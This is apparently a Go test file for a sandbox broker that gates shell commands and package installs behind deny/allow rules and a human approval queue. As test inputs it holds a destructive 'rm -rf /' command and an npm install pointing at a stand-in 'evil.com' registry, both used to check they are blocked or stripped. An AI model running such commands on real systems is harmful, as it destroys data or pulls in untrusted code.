package broker

import (
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/gm-agent-org/gm-warden/pkg/config"
	"github.com/gm-agent-org/gm-warden/pkg/queue"
	"github.com/gm-agent-org/gm-warden/pkg/types"
)

func testDeps(t *testing.T) (*queue.Queue, *config.Store) {
	t.Helper()
	dir := t.TempDir()
	q := queue.New(filepath.Join(dir, "queue.json"), nil, nil)
	store := config.NewStore(filepath.Join(dir, "sandbox.config.json"), nil)
	return q, store
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", what)
}

func TestRunCommandCapturesStreams(t *testing.T) {
	res := runCommand("echo out; echo err >&2", "", time.Minute)
	if res.ExitCode != 0 {
		t.Fatalf("exit code = %d", res.ExitCode)
	}
	if strings.TrimSpace(res.Stdout) != "out" || strings.TrimSpace(res.Stderr) != "err" {
		t.Fatalf("streams = %q / %q", res.Stdout, res.Stderr)
	}
}

func TestRunCommandExitCode(t *testing.T) {
	res := runCommand("exit 3", "", time.Minute)
	if res.ExitCode != 3 {
		t.Fatalf("exit code = %d, want 3", res.ExitCode)
	}
}

func TestRunCommandTimeout(t *testing.T) {
	res := runCommand("sleep 10", "", 100*time.Millisecond)
	if res.ExitCode != 124 {
		t.Fatalf("exit code = %d, want 124", res.ExitCode)
	}
	if !strings.HasSuffix(res.Stderr, "\n[timed out]") {
		t.Fatalf("stderr = %q, want timeout marker", res.Stderr)
	}
}

func TestExecDeniedByRule(t *testing.T) {
	q, store := testDeps(t)
	store.AddRule("deny", "exec(rm *)")
	b := NewExecBroker(q, store, nil)

	rec := b.Submit("rm -rf /", "", "", 0)
	if rec.Status != types.BrokerDenied {
		t.Fatalf("status = %s, want denied", rec.Status)
	}
	if !strings.HasPrefix(rec.ID, "exec-denied-") {
		t.Fatalf("id = %q", rec.ID)
	}
	if len(q.Pending()) != 0 {
		t.Fatal("rule-denied exec reached the queue")
	}
}

func TestExecAutoAllowedByRule(t *testing.T) {
	q, store := testDeps(t)
	store.AddRule("allow", "exec(echo *)")
	b := NewExecBroker(q, store, nil)

	rec := b.Submit("echo hello", "", "", 0)
	if !strings.HasPrefix(rec.ID, "exec-auto-") {
		t.Fatalf("id = %q", rec.ID)
	}
	waitFor(t, "exec completion", func() bool {
		got, _ := b.Get(rec.ID)
		return got.Status == types.BrokerCompleted
	})
	got, _ := b.Get(rec.ID)
	if got.Result == nil || strings.TrimSpace(got.Result.Stdout) != "hello" {
		t.Fatalf("result = %+v", got.Result)
	}
	if len(q.Pending()) != 0 {
		t.Fatal("auto-allowed exec reached the queue")
	}
}

func TestExecQueuedThenApproved(t *testing.T) {
	q, store := testDeps(t)
	b := NewExecBroker(q, store, nil)

	rec := b.Submit("echo queued", "", "testing", 0)
	if rec.Status != types.BrokerPending {
		t.Fatalf("status = %s, want pending", rec.Status)
	}
	pending := q.Pending()
	if len(pending) != 1 || pending[0].Category != types.CategoryExec {
		t.Fatalf("queue pending = %+v", pending)
	}
	if pending[0].ID != rec.ID {
		t.Fatalf("broker id %q != queue id %q", rec.ID, pending[0].ID)
	}

	q.Approve(rec.ID, "cli")
	waitFor(t, "queued exec completion", func() bool {
		got, _ := b.Get(rec.ID)
		return got.Status == types.BrokerCompleted
	})
}

func TestExecQueuedThenDenied(t *testing.T) {
	q, store := testDeps(t)
	b := NewExecBroker(q, store, nil)

	rec := b.Submit("echo never", "", "", 0)
	q.Deny(rec.ID, "cli")
	waitFor(t, "queued exec denial", func() bool {
		got, _ := b.Get(rec.ID)
		return got.Status == types.BrokerDenied
	})
	got, _ := b.Get(rec.ID)
	if got.Result != nil {
		t.Fatal("denied exec produced a result")
	}
}

func TestParsePackageCommand(t *testing.T) {
	cases := []struct {
		in   string
		want *ParsedPackageCommand
	}{
		{
			"npm install --registry=evil.com express",
			&ParsedPackageCommand{Manager: "npm", Action: "install", Packages: []string{"express"}},
		},
		{
			"bun add -D zod typescript",
			&ParsedPackageCommand{Manager: "bun", Action: "add", Packages: []string{"zod", "typescript"}, Flags: []string{"-D"}},
		},
		{
			"npm i -g --save-exact left-pad",
			&ParsedPackageCommand{Manager: "npm", Action: "install", Packages: []string{"left-pad"}, Flags: []string{"-g", "--save-exact"}},
		},
		{
			"pip3 install requests",
			&ParsedPackageCommand{Manager: "pip", Action: "install", Packages: []string{"requests"}},
		},
		{
			"cargo remove serde",
			&ParsedPackageCommand{Manager: "cargo", Action: "remove", Packages: []string{"serde"}},
		},
		{"npm install", nil},
		{"npm install -g", nil},
		{"apt install vim", nil},
		{"npm audit fix", nil},
		{"rm -rf node_modules", nil},
	}
	for _, tc := range cases {
		got := ParsePackageCommand(tc.in)
		if !reflect.DeepEqual(got, tc.want) {
			t.Fatalf("ParsePackageCommand(%q) = %+v, want %+v", tc.in, got, tc.want)
		}
	}
}

func TestBuildCommandNormalizes(t *testing.T) {
	cases := []struct {
		manager, action string
		want            string
	}{
		{"bun", "install", "bun add zod"},
		{"npm", "add", "npm install zod"},
		{"pip", "remove", "pip uninstall zod"},
		{"cargo", "uninstall", "cargo remove zod"},
	}
	for _, tc := range cases {
		if got := BuildCommand(tc.manager, tc.action, []string{"zod"}, nil); got != tc.want {
			t.Fatalf("BuildCommand(%s, %s) = %q, want %q", tc.manager, tc.action, got, tc.want)
		}
	}
}

func TestPackageSubmitDropsUnknownFlags(t *testing.T) {
	q, store := testDeps(t)
	b := NewPackageBroker(q, store, nil)

	rec := b.Submit("npm", "install", []string{"express"}, []string{"--registry=evil.com", "-D"}, "", "", 0)
	if !reflect.DeepEqual(rec.Flags, []string{"-D"}) {
		t.Fatalf("flags = %+v, want [-D]", rec.Flags)
	}
	if strings.Contains(rec.Command, "registry") {
		t.Fatalf("command kept a dropped flag: %q", rec.Command)
	}
	if rec.Status != types.BrokerPending {
		t.Fatalf("status = %s, want pending", rec.Status)
	}
	q.Deny(rec.ID, "cli")
	waitFor(t, "package denial", func() bool {
		got, _ := b.Get(rec.ID)
		return got.Status == types.BrokerDenied
	})
}

func TestPackageBlanketAllowIgnored(t *testing.T) {
	q, store := testDeps(t)
	store.AddRule("allow", "packages(*)")
	b := NewPackageBroker(q, store, nil)

	rec := b.Submit("bun", "add", []string{"zod"}, nil, "", "", 0)
	if rec.Status != types.BrokerPending {
		t.Fatalf("status = %s, want pending (blanket allow must be ignored)", rec.Status)
	}
	q.Deny(rec.ID, "cli")
}
